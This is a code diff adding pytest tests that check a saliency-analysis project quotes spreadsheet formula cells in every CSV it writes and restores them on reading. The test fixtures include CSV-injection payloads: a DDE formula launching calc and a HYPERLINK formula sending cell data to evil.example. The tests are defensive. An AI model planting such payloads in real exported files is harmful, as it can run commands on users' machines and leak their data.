@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -9,7 +10,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from saliency_core import agreement, analysis
+from saliency_core import agreement, analysis, csvfiles
 
 
 def test_undefined_cells_read_n_a_and_no_value_prints_negative_zero():
@@ -137,3 +138,86 @@ def test_columns_with_undefined_values_are_shown_as_text_not_none():
     assert pd.api.types.is_float_dtype(shown["IG"]), "a complete column keeps sorting as numbers"
     html = agreement.styled(frame, ["MAE", "IG"]).to_html()
     assert "n/a" in html and "0.000" in html and "-0.000" not in html and "None" not in html
+
+
+# --- every CSV the project writes: cells a spreadsheet would run are neutralised -------------
+
+CALC = "=cmd|' /C calc'!A0"
+LINK = '+HYPERLINK("http://evil.example/?"&A1,"click")'
+STEM = "=cmd|calc"
+
+
+def raw_rows(text: str) -> list[list[str]]:
+    """The cells exactly as a spreadsheet reads them from CSV text."""
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_formula_cells_get_a_quote_numbers_do_not_and_reading_restores_them():
+    written = {
+        CALC: "'" + CALC,
+        LINK: "'" + LINK,
+        STEM: "'" + STEM,
+        "-2+3": "'-2+3",
+        "@SUM(A1:A9)": "'@SUM(A1:A9)",
+        "\t=1": "'\t=1",
+        "\r=1": "'\r=1",
+        "'quoted": "''quoted",  # one more quote, so reading gives back exactly the text
+        "-0.5": "-0.5",
+        "+3": "+3",
+        "-1e-3": "-1e-3",
+        "a=b": "a=b",
+        "plain": "plain",
+    }
+    for cell, safe in written.items():
+        assert csvfiles.neutralise(cell) == safe, cell
+        assert csvfiles.restore(safe) == cell
+    assert csvfiles.neutralise(-1.5) == -1.5 and csvfiles.neutralise(None) is None
+
+
+def test_the_explore_metrics_csv_neutralises_formulas_and_keeps_negative_numbers():
+    table = pd.DataFrame(
+        {
+            "image": [STEM, STEM],
+            "map": ["a", "a"],
+            "metric": ["CC", "IG"],
+            "value": [-0.25, float("nan")],
+            "reason": [None, LINK],
+            "dataset": [CALC, CALC],
+        }
+    )
+    text = analysis.csv_text(table)
+    header, first, second = raw_rows(text)
+    assert header == ["image", "map", "metric", "value", "reason", "dataset"]
+    assert first == ["'" + STEM, "a", "CC", "-0.25", "", "'" + CALC]
+    assert second == ["'" + STEM, "a", "IG", "NaN", "'" + LINK, "'" + CALC]
+    back = csvfiles.read_csv(io.StringIO(text))
+    assert back["image"].tolist() == [STEM, STEM] and back["reason"].iloc[1] == LINK
+    assert back["value"].iloc[0] == -0.25  # a real number stays a number
+
+
+def test_metrics_errors_summary_and_tags_csv_are_neutralised_parquet_exact(tmp_path):
+    from saliency_core.evaluate.store import ResultsFolder
+
+    folder = ResultsFolder(tmp_path)
+    table = pd.DataFrame({"image": [STEM, "b"], "metric": ["CC", "CC"], "value": [-0.5, 0.25]})
+    folder.write_tables(table, pd.DataFrame({"image": [STEM], "iou": [0.1]}))
+    metrics_csv = raw_rows((tmp_path / "metrics.csv").read_text())
+    assert metrics_csv == [
+        ["image", "metric", "value"],
+        ["'" + STEM, "CC", "-0.5"],
+        ["b", "CC", "0.25"],
+    ]
+    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "metrics.parquet"), table)
+    folder.write_errors({STEM: LINK})
+    assert raw_rows((tmp_path / "errors.csv").read_text())[1] == ["'" + STEM, "'" + LINK]
+    assert folder.errors().values.tolist() == [[STEM, LINK]]
+    folder.write_summary(pd.DataFrame({"map": [CALC], "mean": [-1.0]}), "")
+    assert raw_rows((tmp_path / "summary.csv").read_text())[1] == ["'" + CALC, "-1.0"]
+    folder.set_tags(STEM, CALC)
+    folder.set_tags("b", LINK)
+    assert raw_rows((tmp_path / "tags.csv").read_text()) == [
+        ["image", "tags"],
+        ["'" + STEM, "'" + CALC],
+        ["b", "'" + LINK],
+    ]
+    assert folder.tags().values.tolist() == [[STEM, CALC], ["b", LINK]]
